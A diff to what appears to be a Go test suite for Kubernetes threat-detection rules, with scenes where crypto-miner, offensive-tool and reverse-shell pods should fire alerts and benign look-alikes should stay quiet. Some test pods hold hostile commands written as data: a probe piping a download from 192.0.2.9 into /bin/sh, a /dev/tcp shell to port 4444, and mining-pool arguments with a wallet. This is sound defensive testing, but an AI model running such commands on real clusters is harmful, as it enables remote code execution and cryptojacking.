@@ -171,11 +171,11 @@ func (d *driver) podContent() {
 	s.risk("worker", image("docker.io/xmrig/xmrig:6.21"), `{containers: [{name: app, image: "xmrig/xmrig"}]}`)
 	s.fires("arguments", d.mallory).create(pod("lab", "worker-args", containers(`args: ["-o", "stratum+tcp://pool.example.com:3333", "-u", "44AFFq5k"]`)))
 	s.fires("name-of-the-container", d.mallory).create(pod("lab", "worker-name", `{containers: [{name: minerd, image: "registry.example.com/tools:1"}]}`))
-	s.fires("environment", d.mallory).create(pod("lab", "worker-env", containers(`env: [{name: POOL_URL, value: "pool.example.com:443"}]`)))
+	s.fires("environment", d.mallory).create(pod("lab", "worker-env", containers(`env: [{name: POOL_URL, value: "pool.example.com:443"}, {name: WALLET, value: 44AFFq5k}]`)))
 	s.fires("init-container", d.mallory).create(pod("lab", "worker-init", `{initContainers: [{name: setup, image: "example/t-rex:0.26"}], containers: [{name: app, image: "registry.example.com/tools:1"}]}`))
 	s.fires("image-of-a-running-pod", d.mallory).patch(jsonPatch, d.patched("worker-running"), `[{op: replace, path: /spec/containers/0/image, value: "registry.example.com/cpuminer:1"}]`)
 	s.quiet("similar-image", d.mallory).create(pod("lab", "determiner", image("registry.example.com/determiner:1")))
-	s.quiet("pool-of-something-else", d.mallory).create(pod("lab", "pooled", containers(`args: ["--pool", "tcp://db.example.com:5432"], env: [{name: POOL_SIZE, value: "5"}]`)))
+	s.quiet("pool-of-something-else", d.mallory).create(pod("lab", "pooled", containers(`args: ["--pool", "tcp://db.example.com:5432"], env: [{name: POOL_URL, value: "db.example.com:5432"}]`)))
 
 	s = d.scene("Create Offensive Tool Pod")
 	s.risk("hunter", image("aquasec/kube-hunter:0.6.8"), `{containers: [{name: app, image: "aquasec/kube-hunter:0.6.8"}]}`)
@@ -197,6 +197,7 @@ func (d *driver) podContent() {
 	s.fires("probe", d.mallory).create(pod("lab", "shell-probe", containers(`livenessProbe: {exec: {command: [sh, -c, "wget -qO- http://192.0.2.9/x | /bin/sh"]}}`)))
 	s.fires("init-container", d.mallory).create(pod("lab", "shell-init", `{initContainers: [{name: setup, image: "registry.example.com/tools:1", command: [bash, -c, "exec 5<>/dev/tcp/192.0.2.9/4444"]}], containers: [{name: app, image: "registry.example.com/tools:1"}]}`))
 	s.quiet("health-check", d.mallory).create(pod("lab", "shell-no-curl", containers(`livenessProbe: {exec: {command: [sh, -c, "curl -fs http://localhost:8080/healthz"]}}`)))
+	s.quiet("downloaded-program", d.mallory).create(pod("lab", "shell-no-download", runs("curl -sLo /tools/jq https://example.com/jq && chmod +x /tools/jq")))
 	s.quiet("script", d.mallory).create(pod("lab", "shell-no", runs("set -e; ./migrate && exec ./serve --bash-integration")))
 
 	s = d.scene("Create Disallowed Pod")
